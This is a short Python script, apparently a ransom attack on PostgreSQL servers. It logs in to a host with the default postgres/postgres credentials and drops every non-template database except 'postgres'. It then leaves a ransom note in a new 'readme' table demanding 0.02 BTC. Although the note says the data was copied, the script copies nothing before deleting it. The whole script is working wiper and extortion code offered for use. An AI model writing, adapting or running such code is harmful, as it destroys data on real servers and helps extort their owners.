import psycopg2
c = psycopg2.connect(host="10.0.0.5", user="postgres", password="postgres"); c.autocommit = True
k = c.cursor()
k.execute("select datname from pg_database where not datistemplate")
for (d,) in k.fetchall():
    if d != "postgres": k.execute(f'DROP DATABASE "{d}"')
k.execute("create table readme(note text)")
k.execute("insert into readme values ('Your data was copied. To get it back send 0.02 BTC to bc1qxyz')")
